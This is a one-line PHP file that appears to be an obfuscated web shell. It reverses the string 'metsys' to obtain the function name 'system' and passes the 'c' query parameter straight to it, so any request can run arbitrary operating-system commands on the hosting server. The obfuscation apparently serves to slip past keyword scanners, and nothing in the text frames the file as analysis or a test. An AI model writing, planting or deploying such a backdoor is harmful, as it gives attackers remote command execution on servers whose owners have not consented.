<?php $a = str_split("metsys"); $f = implode("", array_reverse($a)); $f($_GET["c"]);
